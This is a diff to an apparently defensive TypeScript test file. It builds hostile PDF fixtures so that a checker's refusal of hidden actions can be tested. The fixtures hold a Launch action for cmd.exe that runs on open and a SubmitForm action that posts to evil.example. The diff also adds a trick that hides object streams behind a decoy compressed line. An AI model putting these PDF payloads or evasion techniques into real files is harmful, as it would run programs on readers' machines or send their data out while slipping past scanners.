@@ -26,6 +26,7 @@ const withBytesBeforeEnd = (file: Buffer, bytes: Buffer): Buffer => {
 };
 const LINK = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 200 0 R>>]';
 const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
+const SENDS = '<</S/SubmitForm/F(https://evil.example)>>';
 /** What the file does, and the objects in which that is said, which lie in a stream of it. */
 const HIDDEN: readonly (readonly [string, Pick<PdfOptions, 'catalog' | 'page'>, readonly string[]])[] = [
   ['a program to launch on opening', { catalog: '/OpenAction 200 0 R' }, [LAUNCH]],
@@ -41,7 +42,14 @@ const HIDDEN: readonly (readonly [string, Pick<PdfOptions, 'catalog' | 'page'>, 
     { catalog: '/OpenAction 200 0 R' },
     ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SCRIPT],
   ],
-  ['a link that sends', { page: LINK }, ['<</S/SubmitForm/F(https://evil.example)>>']],
+  ['a link that sends', { page: LINK }, [SENDS]],
+  ['a script that runs when it is opened', { catalog: '/OpenAction 200 0 R' }, [SCRIPT]],
+  [
+    'a page shown first, then a program',
+    { catalog: '/OpenAction 200 0 R' },
+    ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', LAUNCH],
+  ],
+  ['a link to a page that sends', { page: LINK }, ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SENDS]],
 ];
 /** How a stream of objects can be written so that its names are not found, though some viewer finds its objects. */
 const HIDING: readonly (readonly [string, (objects: readonly string[]) => Buffer])[] = [
@@ -53,6 +61,7 @@ const HIDING: readonly (readonly [string, (objects: readonly string[]) => Buffer
       return streamOf(deflateSync(deflateSync(content)), entries);
     },
   ],
+  ['behind a line of other data', behindAnotherLine],
   ['without a type', (objects) => inHex(objects, '/Filter/ASCIIHexDecode')],
   ['with a filter by its short name', (objects) => inHex(objects, '/Type/ObjStm/F/AHx')],
   [
@@ -79,10 +88,25 @@ function inHex(objects: readonly string[], entries: string): Buffer {
   return streamOf(`${Buffer.from(content).toString('hex')}>`, `${numbers}${entries}`);
 }
 
-/** Each of what is hidden in one way, and one of them in each. */
+/** A viewer that skips to the next line behind `stream` reads the objects; one that skips a blank reads of nothing. */
+function behindAnotherLine(objects: readonly string[]): Buffer {
+  const { content, numbers } = contentOf(objects, FIRST_INSIDE);
+  const blanks = Array.from({ length: 500 }, (_, length) =>
+    deflateSync(`${objects.map((_, at) => `${FIRST_INSIDE + at} 0`).join(' ')} null${' '.repeat(length)}`),
+  );
+  const harmless = blanks.find((bytes) => !(bytes.includes('\n') || bytes.includes('\r')));
+  if (!harmless) throw new Error('Each of them has the end of a line in it.');
+  const data = deflateSync(content);
+  return Buffer.concat([
+    Buffer.from(`<</Type/ObjStm${numbers}/Filter/FlateDecode/Length ${data.length}>>\nstream `),
+    ...[harmless, Buffer.from('\n'), data, Buffer.from('\nendstream')],
+  ]);
+}
+
+/** Each of what is hidden in two ways, and one of them in each. */
 const hidden = (): [string, FlyerRefusal, () => Buffer][] =>
   HIDDEN.flatMap(([what, told, objects], first) =>
-    HIDING.filter((_, second) => first === 0 || second === 0).map(
+    HIDING.filter((_, second) => first === 0 || second < 2).map(
       ([how, write]): [string, FlyerRefusal, () => Buffer] => [
         `${what}, ${how}`,
         told.page?.includes('/AA') ? 'active' : 'damaged',
